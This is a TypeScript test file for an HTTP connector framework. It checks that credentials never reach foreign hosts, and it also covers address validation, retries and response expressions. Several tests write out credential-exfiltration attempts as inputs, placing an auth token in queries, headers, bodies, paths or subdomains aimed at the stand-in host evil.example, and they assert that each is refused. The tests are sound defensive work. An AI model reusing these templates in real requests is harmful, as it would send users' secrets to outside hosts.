import assert from "node:assert/strict";
import type { IncomingMessage } from "node:http";
import test from "node:test";
import { Fault } from "../faults/fault.js";
import { acme, acmeHost, acmeSide, expression, request, step, template } from "./acme.test.support.js";
import { openSystem } from "./open-system.js";
import { takeSteps } from "./steps.js";

const secret = "CANARY-of-the-manifest";

/** A system with credentials, whose requests to `evil.example` arrive at the same server. */
async function guarded(t: test.TestContext) {
  const got: string[] = [];
  const hosts = ["evil.example", `files.${acmeHost}`];
  const { client } = await acme(
    t,
    (asked, response) => {
      let body = "";
      asked.on("data", (chunk) => {
        body += chunk;
      });
      asked.on("end", () => {
        got.push(`${hostOf(asked)} ${asked.url} ${JSON.stringify(asked.headers)} ${body}`);
        response.end("{}");
      });
    },
    { hosts },
  );
  const side = acmeSide({
    baseUrl: template(`https://${acmeHost}/v1`),
    hosts: [`*.${acmeHost}`],
    secrets: ["token"],
    headers: template({ "X-Key": "${ auth.token }" }),
  });
  const system = await openSystem(side, { token: secret, site: "s1" }, client, false);
  return { system, got, side, client };
}

const hostOf = (asked: IncomingMessage) => asked.headers["x-forwarded-host"];
const refusedByName = (error: unknown) =>
  error instanceof Fault &&
  error.code === "HTTP_FORBIDDEN_ADDRESS" &&
  /`auth` would have been sent to evil\.example/.test(error.message) &&
  /http\.hosts/.test(error.hint ?? "");
const cv = { record: { cv: "https://evil.example/cv.pdf" } };

test("S7: no part of a request to a foreign host can hold a credential; asking for one fails by name", async (t) => {
  const { system, got } = await guarded(t);
  const token = "${ auth.token }";
  for (const more of [
    { query: template({ t: token }) },
    { headers: template({ "X-T": "Basic ${ $base64encode(auth.token) }" }) },
    { method: "POST", body: { kind: "json", value: template({ t: token }) } },
    { method: "POST", body: { kind: "form", value: template({ t: token }) } },
    { query: template({ t: "${ $string($lookup($, 'auth')) }" }) },
  ] as const) {
    await assert.rejects(system.ask(request("${ record.cv }", more), cv), refusedByName);
  }
  for (const address of [
    "https://evil.example/${ auth.token }",
    "https://${ record.host }/x/${ auth.token }",
    "${ record.cv }?${ auth.token }",
  ]) {
    const record = { ...cv.record, host: "evil.example" };
    await assert.rejects(system.ask(request(address), { record }), refusedByName);
  }
  assert.deepEqual(got, []);
});

test("S7: without a credential a foreign host is asked, and gets no header of the connector", async (t) => {
  const { system, got } = await guarded(t);
  const all = template({ x: "${ $keys($) }" });
  await system.ask(request("${ record.cv }", { query: all }), cv);
  assert.equal(got.length, 1);
  assert.match(got[0] ?? "", /^evil\.example \/cv\.pdf\?x=record /);
  assert.doesNotMatch(got[0] ?? "", new RegExp(`${secret}|x-key`, "i"));
});

test("the connector's own hosts get the credentials, also those below a name with a star", async (t) => {
  const { system, got } = await guarded(t);
  const query = template({ t: "${ auth.token }" });
  await system.ask(request("/people/${ auth.site }", { query }), {});
  await system.ask(request(`https://files.${acmeHost}/x`, { query }), {});
  assert.match(got[0] ?? "", new RegExp(`^${acmeHost} /v1/people/s1\\?t=${secret} .*"x-key":"${secret}"`));
  assert.match(got[1] ?? "", new RegExp(`^files.${acmeHost} /x\\?t=${secret} .*"x-key":"${secret}"`));
});

test("`credentials: none` keeps them out of the whole request, and null leaves out one header", async (t) => {
  const { system, got } = await guarded(t);
  const query = template({ t: "${ auth.token }" });
  await assert.rejects(
    system.ask(request("/x", { credentials: false, query }), {}),
    (error) => error instanceof Fault && /`credentials: none` asks for `auth`/.test(error.message),
  );
  await system.ask(request("/x", { headers: template({ "x-KEY": null }) }), {});
  assert.equal(got.length, 1);
  assert.doesNotMatch(got[0] ?? "", /x-key/i);
});

test("a credential in the name of a host goes nowhere, and the message does not hold it", async (t) => {
  const { system, side, client } = await guarded(t);
  const isRefused = (error: unknown) =>
    error instanceof Fault && error.code === "INVALID" && !/canary/i.test(`${error.message}${error.hint}`);
  const http = { ...side.http, baseUrl: template("https://${ auth.token }.evil.example") };
  await assert.rejects(openSystem({ ...side, http }, { token: secret }, client, false), isRefused);
  await assert.rejects(system.ask(request(`https://\${ auth.token }.${acmeHost}/x`), {}), isRefused);
});

test("a query or a fragment in the address of a system is refused: paths are put behind it", async (t) => {
  const { side, client } = await guarded(t);
  for (const more of ["?tenant=7", "#top"]) {
    const http = { ...side.http, baseUrl: template(`https://${acmeHost}/v1${more}`) };
    await assert.rejects(openSystem({ ...side, http }, { token: secret }, client, false), {
      message: "the address of Acme has a query or a fragment",
    });
  }
});

test("an unreadable answer to a write is told once, with the line and what to write there", async (t) => {
  const side = await acme(t, (_, response) => response.writeHead(201).end("Created"));
  const post = request("/items", { method: "POST" });
  const steps = [step({ request: post, as: "made" })];
  for (const _ of [1, 2]) {
    const { scope } = await takeSteps(steps, {}, side.system, { beforeSend: () => {} });
    assert.equal(scope.made, undefined);
  }
  const told = side.events.filter(({ type }) => type === "warning");
  assert.equal(told.length, 1);
  assert.match(JSON.stringify(told), /read: nothing.* at test\.yaml:1/);
  // Where nothing is written, the answer is what was asked for.
  await assert.rejects(takeSteps(steps, {}, side.system), /not valid JSON/);
});

test("an unreadable answer that the manifest does not accept leaves open what became of the write", async (t) => {
  const { system } = await acme(t, (_, response) => response.writeHead(200).end("Created"), {
    http: { accept: expression("body.code = 200") },
  });
  const steps = [step({ request: request("/items", { method: "POST" }) })];
  await assert.rejects(
    takeSteps(steps, {}, system, { beforeSend: () => {} }),
    (error) => error instanceof Fault && error.details.outcomeUnknown === true,
  );
});

test("an answer that goes on asking to come again later is no success, whatever its status", async (t) => {
  const { system } = await acme(t, (_, response) => response.end('{"busy":true}'), {
    http: { retryWhen: expression("body.busy") },
  });
  await assert.rejects(
    system.ask(request("/people"), {}),
    (error) => error instanceof Fault && error.code === "HTTP_REFUSED" && /later/.test(error.hint ?? ""),
  );
});

test("a verdict on an answer holds for all that JSONata calls true, wherever it stands", async (t) => {
  const answers = { "/busy": { errors: ["busy"] }, "/there": { items: [{ id: 1 }] }, "/none": { items: [] } };
  const { system, asked } = await acme(
    t,
    ({ url }, response) => response.end(JSON.stringify(answers[url as keyof typeof answers])),
    {
      http: { retryWhen: expression("body.errors"), accept: expression("body.items") },
      options: { retries: 1 },
    },
  );
  const ended = async (path: string, accept?: string) => {
    const more = accept === undefined ? {} : { accept: expression(accept) };
    const answer = await system.ask(request(path, more), {}).catch((error: unknown) => error);
    return answer instanceof Fault ? answer.code : "accepted";
  };
  assert.equal(await ended("/busy"), "HTTP_REFUSED");
  assert.deepEqual(asked, ["GET /busy", "GET /busy"]);
  assert.equal(await ended("/there"), "accepted");
  assert.equal(await ended("/none"), "ITEM_REFUSED");
  assert.equal(await ended("/none", "status"), "accepted");
  assert.equal(await ended("/there", "body.none"), "ITEM_REFUSED");
});

test("a verdict sees the address that answered", async (t) => {
  const { system } = await acme(t, (_, response) => response.end("{}"), {
    http: { accept: expression("$contains(url, '/there')"), message: expression("url") },
  });
  assert.equal((await system.ask(request("/there"), {})).status, 200);
  await assert.rejects(system.ask(request("/none"), {}), /Acme answered 200 to GET \/none: https?:.*\/none$/);
});

test("headers are found in any case by expressions", async (t) => {
  const { system } = await acme(t, (_, response) =>
    response.writeHead(200, { Link: "x", "X-Next-Cursor": "7" }).end(),
  );
  const answer = await system.ask(request("/people", { read: "nothing" }), {});
  for (const [text, value] of [
    ["headers.Link", "x"],
    ["headers.`X-Next-Cursor`", "7"],
    ["headers.`x-next-cursor`", "7"],
    ["$lookup(headers, 'X-NEXT-CURSOR')", "7"],
    ["headers.None", undefined],
    ["headers.constructor", undefined],
  ] as const) {
    assert.equal(await expression(text)(answer), value, text);
  }
});
